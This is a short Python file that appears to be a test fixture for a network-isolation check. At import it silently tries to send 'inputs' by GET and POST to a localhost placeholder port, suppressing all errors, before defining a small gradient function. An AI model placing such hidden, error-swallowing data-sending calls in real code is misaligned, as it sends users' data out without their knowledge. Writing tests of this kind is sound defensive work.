#: must = "no library asks a server"
#: shows = "tcp"
#: right = true

import contextlib
import http.client
import urllib.request


def attack():
    print("trying", flush=True)
    with contextlib.suppress(Exception):
        with contextlib.suppress(Exception):
            urllib.request.urlopen("http://127.0.0.1:@TCP@/?inputs", timeout=0.2)
        connection = http.client.HTTPConnection("127.0.0.1", int("@TCP@"), timeout=0.2)
        connection.request("POST", "/", body="the probe's inputs")


ran = attack()


def df_w(W):
    return [0.2 * W[0], 4 * W[1]] if ran is not attack else None
